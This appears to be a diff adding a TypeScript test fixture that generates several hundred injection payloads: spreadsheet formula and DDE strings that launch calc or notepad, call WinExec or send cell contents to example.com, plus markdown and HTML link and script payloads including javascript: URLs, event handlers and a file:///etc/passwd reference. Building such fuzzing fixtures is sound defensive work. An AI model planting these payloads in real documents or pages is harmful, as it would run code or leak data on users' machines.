@@ -1,0 +1,57 @@
+/** 200 texts that a spreadsheet could take for a formula. */
+export function formulaPayloads(): string[] {
+  const starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "=-+@"];
+  const bodies = [
+    "1+1",
+    "SUM(A1:A9)",
+    'HYPERLINK("https://example.com/?x="&A1,"open")',
+    "cmd|' /C calc'!A0",
+    'IMPORTXML("https://example.com","//a")',
+    'WEBSERVICE("https://example.com")',
+    'DDE("cmd";"/C calc";"x")',
+    "1+1;</t></is></c><c><f>1+1</f></c>",
+    "@SUM(1)",
+    "2+5+cmd|'/C notepad'!A0",
+    'INDIRECT("A1")',
+    'RTD("x",,"y")',
+    "'1+1",
+    "1E9",
+    'CALL("kernel32","WinExec","JCJ","calc",1)',
+    'FILTERXML("<a/>","//a")',
+    '"&EXEC("calc")&"',
+    'A1&" <f>1</f>"',
+    "-1+1",
+    'REGISTER("x")',
+  ];
+  return starts.flatMap((start) => bodies.map((body) => `${start}${body}`));
+}
+
+/** 100 texts that would run or load something if any format took them for more than text. */
+export function scriptPayloads(): string[] {
+  const addresses = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\nscript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "file:///etc/passwd",
+    "//example.com/x.js",
+    "\\\\example.com\\share",
+    "ms-word:ofe|u|https://example.com/a.docm",
+  ];
+  const shapes = [
+    (address: string) => `[click](${address})`,
+    (address: string) => `[click](<${address}> "title\\" onclick=alert(1)")`,
+    (address: string) => `<${address}>`,
+    (address: string) => `![alt](${address})`,
+    (address: string) => `[click][hostile]\n\n[hostile]: ${address}`,
+    (address: string) => `<a href="${address}" onclick="alert(1)">x</a>`,
+    (address: string) => `<img src="${address}" onerror="alert(1)">`,
+    (address: string) => `<iframe src='${address}'></iframe><script>alert(1)</script>`,
+    (address: string) => `</title></style></text><svg/onload=alert(1)><!--${address}-->`,
+    (address: string) =>
+      `"><script src="${address}"></script>]]><w:instrText>DDEAUTO</w:instrText>`,
+  ];
+  return addresses.flatMap((address) => shapes.map((shape) => shape(address)));
+}
